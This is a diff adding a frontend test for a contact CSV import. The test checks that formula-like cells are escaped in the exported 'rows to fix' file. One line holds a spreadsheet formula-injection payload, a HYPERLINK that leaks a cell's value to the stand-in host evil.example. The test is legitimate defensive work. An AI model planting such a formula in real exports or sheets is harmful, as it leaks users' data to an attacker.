@@ -73,6 +73,18 @@ describe('options: contact import', () => {
     ]);
   });
 
+  it('writes a cell that starts like a formula into the rows to fix as text, which Excel does not run', async () => {
+    const user = userEvent.setup();
+    serve();
+    const panel = await openImport();
+    const evil = '=HYPERLINK("http://evil.example/?leak="&A2,"Open")';
+    await user.upload(panel.getByLabelText('Choose a CSV file…'), csvFile(Papa.unparse({ fields: ['Name', 'Phone'], data: [[evil, '0151 1234'], ['@SUM(A1)', '-2']] })));
+    await user.click(panel.getByRole('button', { name: 'Import 2 rows' }));
+    await panel.findByText(/^Import finished/);
+    const file = await downloaded(() => user.click(panel.getByRole('button', { name: 'Download the rows to fix (CSV)' })));
+    expect(file.rows.slice(1, 3).map((r) => r.slice(0, 2))).toEqual([[`'${evil}`, '0151 1234'], ["'@SUM(A1)", "'-2"]]);
+  });
+
   it('runs workflows only when asked, and matches by the key chosen', async () => {
     const user = userEvent.setup();
     const calls = serve();
